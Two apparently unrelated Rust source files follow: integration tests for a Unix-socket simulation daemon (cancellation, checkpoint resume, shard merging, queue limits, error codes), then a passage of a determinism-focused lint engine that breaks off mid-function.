    let dir = temp_dir("budgets");
    let socket = dir.join("daemon.sock");

    // Size each run's private budget off an unlimited probe: enough for one
    // run plus slack, but nowhere near enough for two runs from one pool. If
    // the daemon (incorrectly) pooled the two submissions, the shared budget
    // would exhaust and the artifacts would diverge from the batch baseline.
    let probe = Registry::get(ExperimentId::CampaignFleet).run(&campaign_config(11));
    let total_events: u64 = match &probe.data {
        ArtifactData::CampaignFleet(result) => result.day_stats.iter().map(|d| d.events).sum(),
        other => panic!("expected a campaign artifact, got {other:?}"),
    };
    let configs = [11, 29].map(|seed| RunConfig {
        global_event_budget: total_events + 1_000,
        ..campaign_config(seed)
    });
    let references: Vec<String> = configs
        .iter()
        .map(|config| {
            Registry::get(ExperimentId::CampaignFleet).run(config).to_json().to_string()
        })
        .collect();

    let daemon = Daemon::start(ServeOptions::new(&socket)).expect("daemon starts");
    let mut clients: Vec<Client> = (0..2).map(|_| connect(&socket)).collect();
    let runs: Vec<u64> = clients
        .iter_mut()
        .zip(configs)
        .map(|(client, config)| submit(client, config, None))
        .collect();

    for ((client, run), reference) in clients.iter_mut().zip(runs).zip(&references) {
        let (days, outcome) = drain_stream(client, run);
        assert_eq!(days.len(), 12, "every campaign day must be streamed");
        assert!(days.iter().enumerate().all(|(i, d)| d.day == i as u32 + 1));
        match outcome {
            RunOutcome::Ok { artifact } => assert_eq!(
                artifact.to_string(),
                *reference,
                "served artifact must be byte-identical to the batch run"
            ),
            other => panic!("expected an ok outcome, got {other:?}"),
        }
    }
    shutdown_and_wait(daemon, &socket);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn cancelled_run_leaves_checkpoint_and_resubmission_matches_batch() {
    let dir = temp_dir("cancel");
    let socket = dir.join("daemon.sock");
    let config = campaign_config(7);

    // The uninterrupted batch reference, wrapped exactly as the daemon wraps
    // checkpoint runs.
    let reference_path = dir.join("reference.ckpt.json");
    let reference = Artifact {
        id: ExperimentId::CampaignFleet,
        config,
        data: ArtifactData::CampaignFleet(
            run_campaign_with_checkpoint(&config, &reference_path).expect("reference run"),
        ),
    }
    .to_json()
    .to_string();

    let daemon = Daemon::start(ServeOptions::new(&socket)).expect("daemon starts");
    let checkpoint = dir.join("served.ckpt.json");

    // Pre-connect the canceller so its request is served the moment it is
    // sent, then cancel as soon as the watcher has seen the first day.
    let mut canceller = connect(&socket);
    let mut watcher = connect(&socket);
    let run = submit(&mut watcher, config, Some(checkpoint.clone()));
    let first = watcher.read_response().expect("first day");
    assert!(matches!(first, Response::Day { stats, .. } if stats.day == 1));
    match canceller.request(&Request::Cancel { run }).expect("cancel response") {
        Response::Cancelling { run: id } => assert_eq!(id, run),
        other => panic!("expected cancelling, got {other:?}"),
    }
    let (days, outcome) = drain_stream(&mut watcher, run);
    let completed = match outcome {
        RunOutcome::Cancelled { days_completed } => days_completed,
        other => panic!("expected a cancelled outcome, got {other:?}"),
    };
    // Day 1 was streamed before the token was set, and twelve fast days
    // could not all have elapsed in the few-millisecond cancel latency.
    assert!((1..12).contains(&completed), "cancel must stop mid-campaign, got {completed}");
    assert_eq!(days.len() + 1, completed as usize, "stream covered every completed day");
    assert!(checkpoint.exists(), "cancelled run must leave its checkpoint");

    // Status shows the run as done/cancelled.
    match canceller.request(&Request::Status { run: Some(run) }).expect("status") {
        Response::Status { runs } => {
            assert_eq!(runs.len(), 1);
            assert_eq!(runs[0].state, RunState::Done);
            assert_eq!(runs[0].days, completed);
            assert_eq!(runs[0].outcome.as_deref(), Some("cancelled"));
        }
        other => panic!("expected status, got {other:?}"),
    }

    // Resubmit the identical config and checkpoint: the daemon resumes from
    // the completed days, replays them into the stream, finishes the
    // campaign, and the final artifact is byte-identical to the batch run.
    let resumed = submit(&mut watcher, config, Some(checkpoint.clone()));
    let (days, outcome) = drain_stream(&mut watcher, resumed);
    assert_eq!(days.len(), 12, "replayed checkpoint days plus fresh days");
    assert!(days.iter().enumerate().all(|(i, d)| d.day == i as u32 + 1));
    match outcome {
        RunOutcome::Ok { artifact } => assert_eq!(
            artifact.to_string(),
            reference,
            "cancel + resume must be byte-identical to one uninterrupted run"
        ),
        other => panic!("expected an ok outcome, got {other:?}"),
    }
    shutdown_and_wait(daemon, &socket);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn queued_run_cancelled_before_execution_resolves_with_zero_days() {
    let dir = temp_dir("queued");
    let socket = dir.join("daemon.sock");
    let daemon = Daemon::start(ServeOptions {
        workers: 1,
        ..ServeOptions::new(&socket)
    })
    .expect("daemon starts");

    // With one worker the second submission sits in the queue while the
    // first runs; cancelling it must resolve it without executing a day.
    let mut first = connect(&socket);
    let mut second = connect(&socket);
    let running = submit(&mut first, campaign_config(3), None);
    let queued = submit(&mut second, campaign_config(5), None);
    let mut control = connect(&socket);
    match control.request(&Request::Cancel { run: queued }).expect("cancel response") {
        Response::Cancelling { run } => assert_eq!(run, queued),
        other => panic!("expected cancelling, got {other:?}"),
    }
    let (days, outcome) = drain_stream(&mut second, queued);
    assert!(days.is_empty(), "a queued-cancelled run must never execute");
    assert!(matches!(outcome, RunOutcome::Cancelled { days_completed: 0 }));

    // The running submission is untouched by its neighbour's cancellation.
    let (days, outcome) = drain_stream(&mut first, running);
    assert_eq!(days.len(), 12);
    assert!(matches!(outcome, RunOutcome::Ok { .. }));
    shutdown_and_wait(daemon, &socket);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn shard_submissions_merge_to_the_batch_artifact() {
    let dir = temp_dir("shards");
    let socket = dir.join("daemon.sock");
    let config = RunConfig { fleet_days: 3, ..campaign_config(13) };
    let reference =
        Registry::get(ExperimentId::CampaignFleet).run(&config).to_json().to_string();

    let daemon = Daemon::start(ServeOptions::new(&socket)).expect("daemon starts");

    // A shard submission runs synchronously on its connection: one request,
    // one shard_result reply carrying the mergeable partial checkpoint.
    let mut merged: Option<ShardOutcome> = None;
    for plan in ShardPlan::split(&config, 3) {
        let mut client = connect(&socket);
        let request = Request::ShardSubmit {
            config: Box::new(config),
            first_ap: plan.first_ap,
            aps: plan.aps,
        };
        let outcome = match client.request(&request).expect("shard response") {
            Response::ShardResult { outcome, .. } => outcome,
            other => panic!("expected shard_result, got {other:?}"),
        };
        let outcome =
            ShardOutcome::from_checkpoint_json(&outcome, &config).expect("partial decodes");
        merged = Some(match merged {
            None => outcome,
            Some(accumulated) => accumulated.merge(outcome).expect("disjoint shards merge"),
        });
    }
    let artifact = Artifact {
        id: ExperimentId::CampaignFleet,
        config,
        data: ArtifactData::CampaignFleet(
            merged
                .expect("three shards ran")
                .into_fleet_result(&config)
                .expect("full coverage converts"),
        ),
    };
    assert_eq!(
        artifact.to_json().to_string(),
        reference,
        "merged shard submissions must be byte-identical to the batch run"
    );

    // Shards reject configurations whose merged result could depend on the
    // scheduling of the shards.
    let mut client = connect(&socket);
    let error_for = |client: &mut Client, request: &Request| {
        match client.request(request).expect("response") {
            Response::Error { message, .. } => message,
            other => panic!("expected an error response, got {other:?}"),
        }
    };
    let message = error_for(
        &mut client,
        &Request::ShardSubmit {
            config: Box::new(RunConfig { global_event_budget: 1_000, ..config }),
            first_ap: 0,
            aps: 1,
        },
    );
    assert!(message.contains("global_event_budget"), "got: {message}");
    let message = error_for(
        &mut client,
        &Request::ShardSubmit {
            config: Box::new(RunConfig { fleet_days: 1, ..config }),
            first_ap: 0,
            aps: 1,
        },
    );
    assert!(message.contains("fleet_days"), "got: {message}");

    // The shard runs appear in the scheduler table as done/ok.
    match client.request(&Request::Status { run: None }).expect("status") {
        Response::Status { runs } => {
            let done_ok = runs
                .iter()
                .filter(|row| {
                    row.state == RunState::Done && row.outcome.as_deref() == Some("ok")
                })
                .count();
            assert!(done_ok >= 3, "expected three finished shard runs, got {runs:?}");
        }
        other => panic!("expected status, got {other:?}"),
    }
    shutdown_and_wait(daemon, &socket);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn bounded_queue_rejects_overflow_with_a_typed_error() {
    let dir = temp_dir("queue-limit");
    let socket = dir.join("daemon.sock");
    let daemon = Daemon::start(ServeOptions {
        workers: 1,
        queue_limit: 1,
        ..ServeOptions::new(&socket)
    })
    .expect("daemon starts");

    // A long campaign occupies the single worker for the whole test (it is
    // cancelled by the shutdown at the end, never run to completion).
    let mut first = connect(&socket);
    let occupant = match first
        .request(&Request::Submit {
            experiment: ExperimentId::CampaignFleet,
            config: Box::new(RunConfig { fleet_days: 600, ..campaign_config(17) }),
            checkpoint: None,
            watch: false,
        })
        .expect("submission response")
    {
        Response::Accepted { run, .. } => run,
        other => panic!("expected accepted, got {other:?}"),
    };
    // Wait until the worker has dequeued it, so the queue is empty again.
    let mut control = connect(&socket);
    loop {
        match control.request(&Request::Status { run: Some(occupant) }).expect("status") {
            Response::Status { runs } if runs[0].state == RunState::Running => break,
            Response::Status { .. } => {
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
            other => panic!("expected status, got {other:?}"),
        }
    }

    // The queue (bound 1) takes exactly one more submission; the next one
    // is rejected with the machine-readable queue_full error.
    let mut second = connect(&socket);
    match second
        .request(&Request::Submit {
            experiment: ExperimentId::CampaignFleet,
            config: Box::new(campaign_config(19)),
            checkpoint: None,
            watch: false,
        })
        .expect("submission response")
    {
        Response::Accepted { .. } => {}
        other => panic!("expected accepted, got {other:?}"),
    }
    let mut third = connect(&socket);
    match third
        .request(&Request::Submit {
            experiment: ExperimentId::CampaignFleet,
            config: Box::new(campaign_config(23)),
            checkpoint: None,
            watch: false,
        })
        .expect("response")
    {
        Response::Error { message, code } => {
            assert_eq!(code.as_deref(), Some("queue_full"), "message: {message}");
            assert!(message.contains("limit 1"), "got: {message}");
        }
        other => panic!("expected a queue_full error, got {other:?}"),
    }
    shutdown_and_wait(daemon, &socket);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn protocol_violations_get_pointed_error_responses() {
    let dir = temp_dir("errors");
    let socket = dir.join("daemon.sock");
    let daemon = Daemon::start(ServeOptions::new(&socket)).expect("daemon starts");
    let mut client = connect(&socket);

    // Every daemon-originated error now carries a machine-readable code.
    let error_for = |client: &mut Client, request: &Request| {
        match client.request(request).expect("response") {
            Response::Error { message, code } => {
                (message, code.expect("every daemon error carries a code"))
            }
            other => panic!("expected an error response, got {other:?}"),
        }
    };
    let (message, code) = error_for(&mut client, &Request::Cancel { run: 99 });
    assert!(message.contains("unknown run 99"));
    assert_eq!(code, "bad_request");
    let (message, code) = error_for(&mut client, &Request::Watch { run: 42 });
    assert!(message.contains("unknown run 42"));
    assert_eq!(code, "bad_request");
    let (message, code) = error_for(&mut client, &Request::Status { run: Some(7) });
    assert!(message.contains("unknown run 7"));
    assert_eq!(code, "bad_request");
    // Checkpoints are a multi-day campaign_fleet contract, mirrored from the
    // CLI's batch mode.
    let (message, code) = error_for(
        &mut client,
        &Request::Submit {
            experiment: ExperimentId::Fig4,
            config: Box::new(RunConfig::default()),
            checkpoint: Some(dir.join("nope.ckpt.json")),
            watch: false,
        },
    );
    assert!(message.contains("campaign_fleet"), "got: {message}");
    assert_eq!(code, "bad_request");
    let (message, code) = error_for(
        &mut client,
        &Request::Submit {
            experiment: ExperimentId::CampaignFleet,
            config: Box::new(RunConfig::default()),
            checkpoint: Some(dir.join("nope.ckpt.json")),
            watch: false,
        },
    );
    assert!(message.contains("fleet_days"), "got: {message}");
    assert_eq!(code, "bad_request");

    // A non-JSON line gets an error response instead of killing the
    // connection: the next request on the same socket still works.
    use std::io::Write;
    let mut raw = std::os::unix::net::UnixStream::connect(&socket).expect("raw connect");
    let mut reader = std::io::BufReader::new(raw.try_clone().expect("clone"));
    let mut line = String::new();
    writeln!(raw, "this is not json").expect("write garbage");
    std::io::BufRead::read_line(&mut reader, &mut line).expect("error line");
    assert!(line.contains("not valid JSON"), "got: {line}");
    assert!(line.contains("\"code\":\"bad_request\""), "got: {line}");
    writeln!(raw, "{}", Request::Status { run: None }.to_json()).expect("write status");
    line.clear();
    std::io::BufRead::read_line(&mut reader, &mut line).expect("status line");
    assert!(line.contains("\"type\":\"status\""), "got: {line}");

    shutdown_and_wait(daemon, &socket);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_stale_socket_is_recovered_but_a_live_daemon_is_not_clobbered() {
    let dir = temp_dir("stale-socket");
    let socket = dir.join("daemon.sock");

    // Fake an unclean death: bind a socket and drop the listener without
    // removing the file (what a kill -9 leaves behind).
    let stale = std::os::unix::net::UnixListener::bind(&socket).expect("first bind");
    drop(stale);
    assert!(socket.exists(), "the stale socket file must be left behind");

    // A new daemon detects that nobody answers, removes the stale file and
    // binds; a second daemon on the same path is refused — the first one is
    // alive and answering.
    let daemon = Daemon::start(ServeOptions::new(&socket)).expect("stale socket recovered");
    let error = match Daemon::start(ServeOptions::new(&socket)) {
        Err(error) => error,
        Ok(_) => panic!("a live daemon's socket must not be clobbered"),
    };
    assert!(
        error.to_string().contains("already listening"),
        "got: {error}"
    );
    // The live daemon survived the probe and still serves.
    let mut client = connect(&socket);
    match client.request(&Request::Status { run: None }).expect("status response") {
        Response::Status { runs } => assert!(runs.is_empty()),
        other => panic!("expected status, got {other:?}"),
    }
    shutdown_and_wait(daemon, &socket);

    // A non-socket file at the path is someone's data: never removed.
    std::fs::write(&socket, "precious").expect("plant a regular file");
    let error = match Daemon::start(ServeOptions::new(&socket)) {
        Err(error) => error,
        Ok(_) => panic!("a regular file must not be clobbered"),
    };
    assert_eq!(error.kind(), std::io::ErrorKind::AddrInUse);
    assert_eq!(std::fs::read_to_string(&socket).expect("file survives"), "precious");
    let _ = std::fs::remove_dir_all(&dir);
}
