//! The lint rules.
//!
//! Every rule produces [`Diagnostic`]s carrying a rule name, a repo-relative
//! `file:line` span and a message, and every rule honours the
//! `// mp-lint: allow(<rule>)` suppression comment placed on the flagged
//! line or the line directly above it. Test code — anything under a
//! `tests/` directory or inside a `#[cfg(test)]` region — is exempt from
//! the runtime-behaviour rules (nondet-iter, wallclock, thread-spawn,
//! panic-discipline).

use crate::tokens::{SourceFile, Tok, TokKind};

pub const SEED_TAG: &str = "seed-tag";
pub const NONDET_ITER: &str = "nondet-iter";
pub const WALLCLOCK: &str = "wallclock";
pub const THREAD_SPAWN: &str = "thread-spawn";
pub const PANIC_DISCIPLINE: &str = "panic-discipline";
pub const DOC_SYNC: &str = "doc-sync";

/// Every rule the engine knows, in catalogue order.
pub const ALL_RULES: [&str; 6] = [
    SEED_TAG,
    NONDET_ITER,
    WALLCLOCK,
    THREAD_SPAWN,
    PANIC_DISCIPLINE,
    DOC_SYNC,
];

/// One lint finding.
#[derive(Debug, Clone, PartialEq)]
pub struct Diagnostic {
    pub rule: &'static str,
    pub file: String,
    pub line: u32,
    pub message: String,
}

impl Diagnostic {
    pub fn render(&self) -> String {
        format!("{}:{}: [{}] {}", self.file, self.line, self.rule, self.message)
    }
}

/// A one-line remediation hint per rule, shown under `--fix-hints`.
pub fn fix_hint(rule: &str) -> &'static str {
    match rule {
        SEED_TAG => {
            "give every seed tag a u64 value with a unique non-zero top-16-bit \
             lane (e.g. 0x5a4d_0000_0000_0000) and register it in \
             parasite::experiments::SEED_TAG_REGISTRY"
        }
        NONDET_ITER => {
            "switch the container to BTreeMap/BTreeSet, collect-and-sort before \
             draining, or use netsim's FxHashMap with an ordered drain"
        }
        WALLCLOCK => {
            "derive time from the simulation clock; real-clock reads belong only \
             in the supervision/timeout layer (annotate those with \
             `// mp-lint: allow(wallclock)`)"
        }
        THREAD_SPAWN => {
            "use parasite::experiments::parallel_tasks (scoped, deterministic \
             join order) or annotate the sanctioned pool with \
             `// mp-lint: allow(thread-spawn)`"
        }
        PANIC_DISCIPLINE => {
            "return a typed ExperimentError/NetError, or document the invariant \
             with `.expect(\"reason\")`; lock poisoning may propagate via \
             `.lock().unwrap()`"
        }
        DOC_SYNC => "add the missing entry to the named document (PROTOCOL.md / README.md)",
        _ => "no hint for this rule",
    }
}

/// Path-derived scoping for the per-file rules.
#[derive(Debug, Clone, Copy)]
pub struct Scope {
    /// The whole file is test code (under a `tests/` directory).
    pub test_code: bool,
    /// The panic-discipline rule applies (library crates where typed
    /// `ExperimentError`/`NetError` errors are the convention).
    pub panic_rule: bool,
}

/// Derives the rule scope from a repo-relative path (forward slashes).
pub fn scope_for(path: &str) -> Scope {
    let test_code = path.starts_with("tests/") || path.contains("/tests/");
    let panic_rule = ["crates/core/src/", "crates/netsim/src/", "crates/service/src/"]
        .iter()
        .any(|prefix| path.starts_with(prefix));
    Scope {
        test_code,
        panic_rule: panic_rule && !test_code,
    }
}

// ---------------------------------------------------------------------------
// Token-stream helpers
// ---------------------------------------------------------------------------

fn ident(tok: Option<&Tok>) -> Option<&str> {
    match tok {
        Some(Tok { kind: TokKind::Ident(name), .. }) => Some(name.as_str()),
        _ => None,
    }
}

fn punct(tok: Option<&Tok>, b: u8) -> bool {
    matches!(tok, Some(Tok { kind: TokKind::Punct(p), .. }) if *p == b)
}

fn is_path_sep(toks: &[Tok], at: usize) -> bool {
    punct(toks.get(at), b':') && punct(toks.get(at + 1), b':')
}

/// `#[cfg(test)]` line ranges: from the attribute to the matching close
/// brace of the item that follows it.
fn test_regions(file: &SourceFile) -> Vec<(u32, u32)> {
    let toks = &file.toks;
    let mut regions = Vec::new();
    let mut i = 0;
    while i < toks.len() {
        let is_cfg_test = punct(toks.get(i), b'#')
            && punct(toks.get(i + 1), b'[')
            && ident(toks.get(i + 2)) == Some("cfg")
            && punct(toks.get(i + 3), b'(')
            && ident(toks.get(i + 4)) == Some("test")
            && punct(toks.get(i + 5), b')')
            && punct(toks.get(i + 6), b']');
        if !is_cfg_test {
            i += 1;
            continue;
        }
        let start_line = toks[i].line;
        // Find the item's opening brace (a `mod tests;` declaration has
        // none; the region is then empty).
        let mut j = i + 7;
        while j < toks.len() && !punct(toks.get(j), b'{') && !punct(toks.get(j), b';') {
            j += 1;
        }
        if punct(toks.get(j), b'{') {
            let mut depth = 0usize;
            while j < toks.len() {
                if punct(toks.get(j), b'{') {
                    depth += 1;
                } else if punct(toks.get(j), b'}') {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                j += 1;
            }
            let end_line = toks.get(j).map_or(u32::MAX, |t| t.line);
            regions.push((start_line, end_line));
        }
        i = j + 1;
    }
    regions
}

// ---------------------------------------------------------------------------
// Per-file rules: nondet-iter, wallclock, thread-spawn, panic-discipline
// ---------------------------------------------------------------------------

const ITER_METHODS: [&str; 9] = [
    "iter",
    "iter_mut",
    "keys",
    "values",
    "values_mut",
    "drain",
    "into_iter",
    "into_keys",
    "into_values",
];

/// Runs the per-file rules over one tokenized source file.
pub fn lint_file(path: &str, file: &SourceFile) -> Vec<Diagnostic> {
    let scope = scope_for(path);
    if scope.test_code {
        return Vec::new();
    }
    let regions = test_regions(file);
    let in_test = |line: u32| regions.iter().any(|(lo, hi)| (*lo..=*hi).contains(&line));
    let mut diags = Vec::new();
    let mut emit = |rule: &'static str, line: u32, message: String| {
        if !in_test(line) && !file.allows_rule(line, rule) {
            diags.push(Diagnostic { rule, file: path.to_string(), line, message });
        }
    };

    let toks = &file.toks;

    // Pass 1: names declared with a HashMap/HashSet type or constructor.
    // Test-region declarations are skipped so a test-local `HashSet` cannot
    // poison a production identifier of the same name.
    let mut hashed_names: Vec<String> = Vec::new();
    for i in 0..toks.len() {
        if in_test(toks[i].line) {
            continue;
        }
        let Some(name) = ident(toks.get(i)) else { continue };
        let after = i + 1;
        let is_decl = (punct(toks.get(after), b':') && !is_path_sep(toks, after))
            || punct(toks.get(after), b'=');
        if !is_decl {
            continue;
        }
        // Skip `&`, `mut` and `std::collections::` path prefixes between the
        // declaration site and the type/constructor name.
        let mut j = after + 1;
        let mut budget = 8;
        while budget > 0 {
            budget -= 1;
            match toks.get(j) {
                Some(Tok { kind: TokKind::Punct(b'&' | b':'), .. }) => j += 1,
                Some(Tok { kind: TokKind::Ident(word), .. })
                    if word == "mut" || word == "std" || word == "collections" =>
                {
                    j += 1
                }
                _ => break,
            }
        }
        if matches!(ident(toks.get(j)), Some("HashMap" | "HashSet"))
            && !hashed_names.iter().any(|n| n == name)
        {
            hashed_names.push(name.to_string());
        }
    }

    // Pass 2: the linear scan for all four rules.
    for i in 0..toks.len() {
        let line = toks[i].line;
        match ident(toks.get(i)) {
            // nondet-iter: `map.iter()` / `for x in &map` on a hashed name.
            Some(name) if hashed_names.iter().any(|n| n == name) => {
                if punct(toks.get(i + 1), b'.') {
                    if let Some(method) = ident(toks.get(i + 2)) {
                        if ITER_METHODS.contains(&method) {
                            emit(
                                NONDET_ITER,
                                line,
                                format!(
                                    "`{name}.{method}()` iterates a HashMap/HashSet in \
                                     nondeterministic order"
                                ),
                            );
                        }
                    }
                }
                let mut back = i;
                while back > 0
                    && (punct(toks.get(back - 1), b'&') || ident(toks.get(back - 1)) == Some("mut"))
                {
                    back -= 1;
                }
                if back > 0 && ident(toks.get(back - 1)) == Some("in") {
                    emit(
                        NONDET_ITER,
                        line,
                        format!("`for .. in {name}` iterates a HashMap/HashSet in nondeterministic order"),
                    );
                }
            }
            // wallclock: `Instant::now()` (netsim's simulated Instant has no
            // `now`, so only real-clock reads match).
            Some("Instant") if is_path_sep(toks, i + 1) && ident(toks.get(i + 3)) == Some("now") => {
                emit(
                    WALLCLOCK,
                    line,
                    "`Instant::now()` reads the wall clock; deterministic replay must not \
                     depend on real time outside the supervision/timeout layer"
                        .to_string(),
                );
            }
            // wallclock: any SystemTime use.
            Some("SystemTime") => {
                emit(
                    WALLCLOCK,
                    line,
                    "`SystemTime` is wall-clock time; deterministic replay must not depend \
                     on real time outside the supervision/timeout layer"
                        .to_string(),
                );
            }
            // thread-spawn: `thread::spawn` outside the sanctioned pools.
            Some("thread") if is_path_sep(toks, i + 1) && ident(toks.get(i + 3)) == Some("spawn") => {
                emit(
                    THREAD_SPAWN,
                    line,
                    "`thread::spawn` outside the sanctioned pools makes scheduling \
                     nondeterministic; use parasite::experiments::parallel_tasks"
                        .to_string(),
                );
            }
            // panic-discipline: panic-family macros.
            Some(mac @ ("panic" | "unreachable" | "todo" | "unimplemented"))
                if scope.panic_rule && punct(toks.get(i + 1), b'!') =>
            {
                emit(
                    PANIC_DISCIPLINE,
                    line,
                    format!(
                        "`{mac}!` in a library crate; the convention is a typed \
                         ExperimentError/NetError"
                    ),
                );
            }
            // panic-discipline: `.unwrap()` (lock poisoning exempt) and
            // undocumented `.expect(..)`.
            Some(call @ ("unwrap" | "expect"))
                if scope.panic_rule
                    && i > 0
                    && punct(toks.get(i - 1), b'.')
                    && punct(toks.get(i + 1), b'(') =>
            {
                if call == "unwrap" {
                    if punct(toks.get(i + 2), b')') && !lock_receiver(toks, i - 1) {
                        emit(
                            PANIC_DISCIPLINE,
                            line,
                            "bare `.unwrap()` in a library crate; return a typed error or \
                             document the invariant with `.expect(\"reason\")`"
                                .to_string(),
                        );
                    }
                } else if !expect_is_sanctioned(toks, i + 1) {
                    emit(
                        PANIC_DISCIPLINE,
                        line,
                        "`.expect(..)` without a string-literal justification; document \
                         the invariant or return a typed error"
                            .to_string(),
                    );
                }
            }
            _ => {}
        }
    }
    diags
}

/// True when the receiver of `.unwrap()` at `dot` (the `.` token index) is a
/// lock acquisition — `lock()`, `read()`, `write()`, `wait()`,
/// `wait_timeout(..)` — where unwrapping propagates poisoning by convention.
fn lock_receiver(toks: &[Tok], dot: usize) -> bool {
    if dot == 0 || !punct(toks.get(dot - 1), b')') {
        return false;
    }
    // Walk back over the balanced argument list to the call's open paren.
    let mut depth = 0usize;
    let mut k = dot - 1;
    loop {
        if punct(toks.get(k), b')') {
            depth += 1;
        } else if punct(toks.get(k), b'(') {
            depth -= 1;
            if depth == 0 {
                break;
            }
        }
        if k == 0 {
            return false;
        }
        k -= 1;
    }
    matches!(
        k.checked_sub(1).and_then(|at| ident(toks.get(at))),
        Some("lock" | "read" | "write" | "wait" | "wait_timeout")
    )
}

/// `.expect(..)` is sanctioned when the argument is a string-literal
/// invariant message, or when the call is a `Result`-returning parser-style
/// method whose value is immediately propagated with `?`.
fn expect_is_sanctioned(toks: &[Tok], open: usize) -> bool {
    if matches!(toks.get(open + 1), Some(Tok { kind: TokKind::Str(_), .. })) {
        return true;
    }
    let mut depth = 0usize;
    let mut k = open;
    while k < toks.len() {
        if punct(toks.get(k), b'(') {
            depth += 1;
        } else if punct(toks.get(k), b')') {
            depth -= 1;
            if depth == 0 {
                return punct(toks.get(k + 1), b'?');
            }
        }
        k += 1;
    }
    false
}

// ---------------------------------------------------------------------------
// seed-tag: the workspace-wide tag registry
// ---------------------------------------------------------------------------

/// One `*_TAG` constant extracted from source.
#[derive(Debug, Clone, PartialEq)]
pub struct TagEntry {
    pub name: String,
    pub file: String,
    pub line: u32,
    /// The declared type (`u64` is required).
    pub ty: String,
    /// The parsed value; `None` when the literal didn't parse as an integer.
    pub value: Option<u64>,
    /// Suppressed via `mp-lint: allow(seed-tag)` at the declaration.
    pub allowed: bool,
}

impl TagEntry {
    /// The top-16-bit stream-family lane.
    pub fn lane(&self) -> Option<u64> {
        self.value.map(|v| v >> 48)
    }
}

/// Extracts every `const <NAME>_TAG: <ty> = <int>;` from one file
/// (test regions excluded — seed tags are production constants).
pub fn collect_tags(path: &str, file: &SourceFile) -> Vec<TagEntry> {
    let regions = test_regions(file);
    let toks = &file.toks;
    let mut tags = Vec::new();
    for i in 0..toks.len() {
        if ident(toks.get(i)) != Some("const") {
            continue;
        }
        let Some(name) = ident(toks.get(i + 1)) else { continue };
        if !name.ends_with("_TAG") {
            continue;
        }
        if !punct(toks.get(i + 2), b':') {
            continue;
        }
        let Some(ty) = ident(toks.get(i + 3)) else { continue };
        if !punct(toks.get(i + 4), b'=') {
            continue;
        }
        let Some(Tok { kind: TokKind::Num(literal), line }) = toks.get(i + 5) else {
            continue;
        };
        if regions.iter().any(|(lo, hi)| (*lo..=*hi).contains(line)) {
            continue;
        }
        tags.push(TagEntry {
            name: name.to_string(),
            file: path.to_string(),
            line: *line,
            ty: ty.to_string(),
            value: parse_int(literal),
            allowed: file.allows_rule(*line, SEED_TAG),
        });
    }
    tags
}

fn parse_int(literal: &str) -> Option<u64> {
    let text: String = literal.chars().filter(|c| *c != '_').collect();
    if let Some(hex) = text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        u64::from_str_radix(hex, 16).ok()
    } else if let Some(oct) = text.strip_prefix("0o") {
        u64::from_str_radix(oct, 8).ok()
    } else if let Some(bin) = text.strip_prefix("0b") {
        u64::from_str_radix(bin, 2).ok()
    } else {
        text.parse().ok()
    }
}

/// Checks the extracted registry: 64-bit width, pairwise-distinct values,
/// and non-overlapping, non-zero high-lane (top-16-bit) prefixes.
pub fn check_tags(tags: &[TagEntry]) -> Vec<Diagnostic> {
    let mut diags = Vec::new();
    let mut emit = |tag: &TagEntry, message: String| {
        diags.push(Diagnostic {
            rule: SEED_TAG,
            file: tag.file.clone(),
            line: tag.line,
            message,
        });
    };
    let live: Vec<&TagEntry> = tags.iter().filter(|t| !t.allowed).collect();
    for tag in &live {
        if tag.ty != "u64" {
            emit(
                tag,
                format!(
                    "`{}` is declared `{}`; seed tags must be u64 so the splitmix \
                     stream derivation keeps its full keyspace",
                    tag.name, tag.ty
                ),
            );
        }
        match tag.value {
            None => emit(tag, format!("`{}` has a value the lint cannot parse", tag.name)),
            Some(value) if value >> 48 == 0 => emit(
                tag,
                format!(
                    "`{}` (0x{value:016x}) has no high-lane prefix; the top 16 bits \
                     identify the seed-stream family",
                    tag.name
                ),
            ),
            Some(_) => {}
        }
    }
    for (i, a) in live.iter().enumerate() {
        for b in live.iter().skip(i + 1) {
            let (Some(va), Some(vb)) = (a.value, b.value) else { continue };
            if va == vb {
                emit(
                    b,
                    format!("`{}` duplicates the value of `{}` (0x{va:016x})", b.name, a.name),
                );
            } else if va >> 48 == vb >> 48 && va >> 48 != 0 {
                emit(
                    b,
                    format!(
                        "`{}` shares high lane 0x{:04x} with `{}`; stream families must \
                         not overlap",
                        b.name,
                        vb >> 48,
                        a.name
                    ),
                );
            }
        }
    }
    diags
}

// ---------------------------------------------------------------------------
// doc-sync: protocol codes in PROTOCOL.md, CLI flags in README.md
// ---------------------------------------------------------------------------

/// One item whose value must appear in a document.
#[derive(Debug, Clone, PartialEq)]
pub struct DocItem {
    pub name: String,
    pub value: String,
    pub file: String,
    pub line: u32,
    pub allowed: bool,
}

/// Extracts `const NAME: &str = "value";` error codes (the
/// `protocol::codes` table).
pub fn collect_error_codes(path: &str, file: &SourceFile) -> Vec<DocItem> {
    let toks = &file.toks;
    let mut items = Vec::new();
    for i in 0..toks.len() {
        if ident(toks.get(i)) != Some("const") {
            continue;
        }
        let Some(name) = ident(toks.get(i + 1)) else { continue };
        if !punct(toks.get(i + 2), b':') || !punct(toks.get(i + 3), b'&') {
            continue;
        }
        if ident(toks.get(i + 4)) != Some("str") || !punct(toks.get(i + 5), b'=') {
            continue;
        }
        let Some(Tok { kind: TokKind::Str(value), line }) = toks.get(i + 6) else {
            continue;
        };
        items.push(DocItem {
            name: name.to_string(),
            value: value.clone(),
            file: path.to_string(),
            line: *line,
            allowed: file.allows_rule(*line, DOC_SYNC),
        });
    }
    items
}

/// Extracts every `"--flag"` string literal (the `parse_args` vocabulary;
/// first occurrence wins).
pub fn collect_cli_flags(path: &str, file: &SourceFile) -> Vec<DocItem> {
    let mut items: Vec<DocItem> = Vec::new();
    for tok in &file.toks {
        let TokKind::Str(value) = &tok.kind else { continue };
        let Some(body) = value.strip_prefix("--") else { continue };
        if body.is_empty()
            || !body
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        {
            continue;
        }
        if items.iter().any(|item| &item.value == value) {
            continue;
        }
        items.push(DocItem {
